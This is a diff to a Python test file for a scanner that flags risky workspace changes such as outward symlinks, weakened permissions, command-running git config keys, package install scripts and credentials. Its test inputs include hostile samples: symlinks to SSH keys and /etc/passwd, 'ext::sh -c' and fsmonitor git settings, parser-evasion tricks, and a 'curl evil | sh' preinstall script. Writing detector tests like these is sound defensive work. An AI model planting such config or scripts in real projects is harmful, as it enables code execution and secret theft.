@@ -117,7 +117,7 @@ def test_deleted_refused_and_directory_changes_are_not_flagged() -> None:
 
 def test_links_at_risky_paths_are_flagged_without_being_read() -> None:
     def link(path: str) -> tuple[str, ...]:
-        change = Change(path, ChangeKind.ADDED, new_type=EntryType.SYMLINK, new_target="../payload")
+        change = Change(path, ChangeKind.ADDED, new_type=EntryType.SYMLINK, new_target="payload")
         return risk.assess(change, new=lambda limit: pytest.fail("a link is never read"))
 
     assert link(".git/hooks/pre-commit") == (risk.GIT_HOOK,)
@@ -127,7 +127,89 @@ def test_links_at_risky_paths_are_flagged_without_being_read() -> None:
     assert link("package.json") == (risk.PACKAGE_SCRIPTS,)
     assert link("src/current") == ()
     replaced = Change(".git/hooks", ChangeKind.TYPE, EntryType.DIR, EntryType.SYMLINK, 0o755, None, None, "/tmp/h")
-    assert risk.assess(replaced) == (risk.GIT_HOOK,)
+    assert risk.assess(replaced) == (risk.GIT_HOOK, risk.OUTWARD_LINK)
+
+
+def link_to(path: str, target: str) -> tuple[str, ...]:
+    return risk.assess(Change(path, ChangeKind.ADDED, new_type=EntryType.SYMLINK, new_target=target))
+
+
+@pytest.mark.parametrize(
+    ("path", "target"),
+    [
+        ("key", "/root/.ssh/id_rsa"),
+        ("a/b/up", "../../../etc/passwd"),
+        ("up", ".."),
+        ("sub/x", "../.."),
+        ("x", "sub/../../y"),  # lexically inside, but sub may itself be a link
+        ("x", "a/./../b"),
+        ("x", "//etc"),
+    ],
+)
+def test_links_pointing_outside_the_workspace_are_flagged(path: str, target: str) -> None:
+    assert risk.OUTWARD_LINK in link_to(path, target)
+
+
+@pytest.mark.parametrize(("path", "target"), [("a/b/c", "../d"), ("current", "releases/v2"), ("x", "./y"),
+                                              ("a/up", ".."), ("dot", ".")])
+def test_links_inside_the_workspace_are_not(path: str, target: str) -> None:
+    assert link_to(path, target) == ()
+
+
+def test_links_to_flagged_paths_carry_their_flags() -> None:
+    assert link_to("notes.txt", ".git/hooks/pre-commit") == (risk.GIT_HOOK,)
+    assert link_to("docs/h", "../.git/hooks") == (risk.GIT_HOOK,)
+    assert link_to("cfg", ".git/config") == (risk.GIT_CONFIG,)
+    assert link_to("rc", "home/.bashrc") == (risk.SHELL_STARTUP,)
+    assert link_to("k", ".ssh/authorized_keys") == (risk.SSH,)
+
+
+# -- permissions -----------------------------------------------------------------------------------
+def mode(path: str, old: int, new: int, entry: EntryType = EntryType.FILE) -> tuple[str, ...]:
+    return risk.assess(Change(path, ChangeKind.MODE, entry, entry, old, new))
+
+
+@pytest.mark.parametrize(
+    ("path", "old", "new", "entry"),
+    [
+        (".bashrc", 0o644, 0o666, EntryType.FILE),
+        (".bashrc", 0o644, 0o664, EntryType.FILE),  # group write on a start-up file
+        (".ssh/authorized_keys", 0o600, 0o666, EntryType.FILE),
+        (".ssh/id_ed25519", 0o600, 0o644, EntryType.FILE),  # a private key readable by all
+        (".env", 0o600, 0o640, EntryType.FILE),
+        (".git/hooks", 0o755, 0o777, EntryType.DIR),
+        (".git/hooks", 0o755, 0o775, EntryType.DIR),
+        (".git", 0o755, 0o775, EntryType.DIR),
+        (".ssh", 0o700, 0o770, EntryType.DIR),
+        (".github/workflows", 0o755, 0o775, EntryType.DIR),
+        ("src/app.py", 0o644, 0o646, EntryType.FILE),  # anything writable by all
+        ("shared", 0o1777, 0o0777, EntryType.DIR),  # sticky bit removed
+        (".git/config", 0o644, 0o664, EntryType.FILE),
+    ],
+)
+def test_weakened_permissions_are_flagged(path: str, old: int, new: int, entry: EntryType) -> None:
+    assert risk.WEAK_PERMISSIONS in mode(path, old, new, entry)
+
+
+@pytest.mark.parametrize(
+    ("path", "old", "new", "entry"),
+    [
+        ("src/app.py", 0o644, 0o664, EntryType.FILE),  # group write on an ordinary file
+        (".bashrc", 0o666, 0o644, EntryType.FILE),  # narrowing
+        ("tmp", 0o755, 0o1777, EntryType.DIR),  # a sticky world-writable folder, like /tmp
+        ("src", 0o755, 0o775, EntryType.DIR),
+        ("README.md", 0o600, 0o644, EntryType.FILE),
+    ],
+)
+def test_ordinary_permission_changes_are_not(path: str, old: int, new: int, entry: EntryType) -> None:
+    assert mode(path, old, new, entry) == ()
+
+
+def test_new_world_writable_entries_and_folders_are_flagged() -> None:
+    assert risk.WEAK_PERMISSIONS in added("notes.txt", mode=0o666)
+    folder = Change(".git/hooks", ChangeKind.ADDED, new_type=EntryType.DIR, new_mode=0o777)
+    assert risk.assess(folder) == (risk.WEAK_PERMISSIONS,)
+    assert added(".bashrc", mode=0o664) == (risk.SHELL_STARTUP, risk.WEAK_PERMISSIONS)
 
 
 # -- exec bit --------------------------------------------------------------------------------------
@@ -184,7 +266,48 @@ def test_git_config_without_commands_is_not_flagged() -> None:
 
 def test_a_git_file_redirecting_the_repository_is_flagged() -> None:
     assert added("sub/.git", b"gitdir: ../evil/.git\n") == (risk.GIT_CONFIG,)
-    assert modified("sub/.git", b"gitdir: ../a\n", b"gitdir: ../a\n") == ()
+    assert added("sub/.git", b"\xef\xbb\xbfgitdir: ../evil/.git\n") == (risk.GIT_CONFIG,)
+
+
+@pytest.mark.parametrize(
+    "config",
+    [
+        b"\xef\xbb\xbf[core]\n\tfsmonitor = evil\n",  # a byte-order mark before the section
+        b"[core]\n\tx = y \\\n[user]\n\tfsmonitor = evil\n",  # a continuation swallows a fake header
+        b"[CORE]\n\tFSMONITOR = evil\n",
+        b"[core]\n\tfsmonitor = \"ev\" il # comment\n",
+        b"[core]\n\tfsmonitor = a\\\n\tb\n",  # a value continued on the next line
+        b"[core]\n" + b"# padding\n" * 200_000 + b"\tfsmonitor = evil\n",  # after the first MiB
+        b"[core]\r\n\tpager = less\r\n",
+        b'[remote "o"]\n\turl = ext::sh -c evil\n',
+        b"[protocol]\n\tallow = always\n",
+        b'[url "ext::sh -c evil #"]\n\tinsteadOf = https://\n',
+        b"[alias]\n\tlg = -c core.pager=evil log\n",
+        b"[sendemail]\n\tsendmailCmd = evil\n",
+        b'[gpg "ssh"]\n\tprogram = evil\n',
+        b"[core]\n\talternateRefsCommand = evil\n",
+        b'[credential "https://x"]\n\thelper = evil\n',
+        b"[init]\n\ttemplateDir = t\n",
+    ],
+)
+def test_git_config_is_read_as_git_reads_it(config: bytes) -> None:
+    assert added(".git/config", config) == (risk.GIT_CONFIG,)
+    assert modified(".git/config", PLAIN_CONFIG, PLAIN_CONFIG + config.lstrip(b"\xef\xbb\xbf")) == (risk.GIT_CONFIG,)
+
+
+def test_a_fake_section_inside_a_value_is_not_a_section() -> None:
+    # git reads `[core]` here as part of user.name: nothing runs, nothing is flagged
+    assert added(".git/config", b"[user]\n\tname = x \\\n[core] fsmonitor = y\n[user]\n\temail = a\n") == ()
+
+
+def test_a_git_config_git_refuses_is_flagged_when_it_changes() -> None:
+    assert added(".git/config", b"[core\n\tfsmonitor = x\n") == (risk.GIT_CONFIG,)
+    assert modified(".git/config", b"[core\n", b"[core\n") == ()
+
+
+def test_a_git_config_too_large_to_read_is_flagged() -> None:
+    big = PLAIN_CONFIG + b"#" * risk.CONFIG_LIMIT
+    assert added(".git/config", big) == (risk.GIT_CONFIG, risk.TOO_LARGE)
 
 
 # -- package scripts ---------------------------------------------------------------------------------
@@ -199,6 +322,19 @@ def test_package_scripts_changes_are_flagged_other_edits_are_not() -> None:
     assert added("web/package.json", b'{"name": "x"}') == ()
     assert modified("composer.json", b"{}", b'{"scripts": {"post-install-cmd": "x"}}') == (risk.PACKAGE_SCRIPTS,)
     assert added("package.json", b'{"scripts": {"x": "y"}, oops') == (risk.PACKAGE_SCRIPTS,)
+
+
+def test_package_scripts_are_read_whole_as_json() -> None:
+    padding = json.dumps({"description": "x" * (2 * 1024 * 1024)})[1:-1].encode()
+    late = b'{' + padding + b', "scripts": {"preinstall": "curl evil | sh"}}'
+    assert added("package.json", late) == (risk.PACKAGE_SCRIPTS,)
+    assert modified("package.json", b'{' + padding + b'}', late) == (risk.PACKAGE_SCRIPTS,)
+    escaped = b'{"scr\\u0069pts": {"install": "evil"}}'  # JSON escapes spell the same key
+    assert added("package.json", escaped) == (risk.PACKAGE_SCRIPTS,)
+    assert added("package.json", b"\xef\xbb\xbf" + escaped) == (risk.PACKAGE_SCRIPTS,)
+    assert added("package.json", b'{"gypfile": true}') == (risk.PACKAGE_SCRIPTS,)
+    assert added("package.json", b"[" * 100_000 + b"]" * 100_000) == (risk.PACKAGE_SCRIPTS,)  # too deep
+    assert added(".npmrc", b"script-shell=/tmp/evil\n") == (risk.PACKAGE_SCRIPTS,)
 
 
 # -- credentials -------------------------------------------------------------------------------------
@@ -252,15 +388,17 @@ def test_a_credential_already_there_is_not_flagged_again() -> None:
     assert modified("conf.ini", old, old + b'token = "Zq8Wx3Lm9Pt2Rv7"\n') == (risk.CREDENTIALS,)
 
 
-def test_credentials_are_looked_for_in_the_first_mib_only() -> None:
+def test_credentials_are_looked_for_in_the_whole_file_or_it_is_too_large() -> None:
     key = b"-----BEGIN OPENSSH PRIVATE KEY-----\n"
+    assert added("big.log", b"x" * (2 * 1024 * 1024) + key) == (risk.CREDENTIALS,)
     assert added("big.log", b"x" * (risk.SCAN_LIMIT - 100) + key) == (risk.CREDENTIALS,)
-    assert added("big.log", b"x" * risk.SCAN_LIMIT + key) == ()
+    assert added("big.log", b"x" * risk.SCAN_LIMIT + key) == (risk.TOO_LARGE,)
+    assert added("big.log", b"x" * (risk.SCAN_LIMIT + 1)) == (risk.TOO_LARGE,)
 
 
 def test_every_flag_is_described_and_namespaced() -> None:
     assert all(flag.startswith("risk.") and text for flag, text in risk.RISKS.items())
-    assert len(risk.RISKS) == 10
+    assert len(risk.RISKS) == 13
 
 
 def test_file_reader_does_not_follow_links(tmp_path: Path) -> None:
